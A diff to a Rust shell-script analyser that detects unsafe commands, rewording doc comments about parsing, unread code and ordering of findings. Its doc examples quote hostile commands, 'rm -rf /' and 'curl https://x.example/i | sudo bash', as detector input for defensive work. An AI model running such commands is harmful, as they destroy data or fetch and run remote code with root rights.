@@ -1,7 +1,7 @@
 //! Reads shell scripts: which commands they run, which of these are harmful, and what cannot be read.
 //!
-//! Scripts are parsed as bash parses them, with quotes, here-documents, substitutions, functions and compound commands, so
-//! `echo "rm -rf /"` is text and `'rm' -rf /` is a command. What is run inside is followed:
+//! Scripts are parsed as bash parses them, with quotes, here-documents, substitutions, functions and compound commands,
+//! so `echo "rm -rf /"` is text and `'rm' -rf /` is a command. What is run inside is followed:
 //!
 //! | followed | reported as not read |
 //! |---|---|
@@ -94,7 +94,7 @@ pub enum UnreadReason {
     Name,
     /// A script is computed, or comes from a pipe.
     Script,
-    /// A program runs what options name that are not known, or in a way that is not followed.
+    /// A program may run others: by an option that is not known, or in a way that is not followed.
     Arguments,
     /// A variable changes what later commands run.
     Environment,
@@ -122,8 +122,8 @@ impl UnreadReason {
         }
     }
 
-    /// Returns the kind and the severity with which [`find`] reports it. `None` for code that is elsewhere, as is that
-    /// of every program.
+    /// Returns the kind and the severity with which [`find`] reports it. `None` for code in a file or in the standard
+    /// input: it is outside of the script, as the code of every program is.
     fn issue(self) -> Option<(UnsafeCommandKind, IssueSeverity)> {
         match self {
             Self::Limit | Self::Syntax | Self::Script | Self::Arguments | Self::Environment => {
@@ -152,7 +152,7 @@ pub struct Invocation {
     pub name: String,
     /// The arguments without quotes. A wrapper such as `sudo` has none: its command is the next invocation.
     pub arguments: Vec<String>,
-    /// Whether an argument is computed, so that it is not what the command receives.
+    /// Whether an argument is computed; the command then receives another text.
     pub computed: bool,
     /// The bytes of the command with its wrappers.
     pub span: Range<usize>,
@@ -173,8 +173,8 @@ pub struct ShellCode {
 }
 
 /// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`]. What cannot be read
-/// counts as unsafe: `UNREADABLE`, `UNKNOWN_COMMAND`, `OTHER_CODE`. If there are more findings than are returned, one of
-/// these says so.
+/// counts as unsafe: `UNREADABLE`, `UNKNOWN_COMMAND`, `OTHER_CODE`. If there are more findings than are returned, an
+/// `UNREADABLE` finding says so.
 ///
 /// ```
 /// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
@@ -221,7 +221,7 @@ pub fn shell_code(text: &str) -> ShellCode {
     issues.sort_by_key(order);
     issues.dedup();
     if issues.len() > MAX_FINDINGS {
-        // Errors come before warnings, and before both that the list is not complete.
+        // Keep first what says that something is not read, then the errors, then the warnings.
         issues.sort_by_key(|issue| {
             std::cmp::Reverse((issue.kind == UnsafeCommandKind::Unreadable, issue.severity))
         });
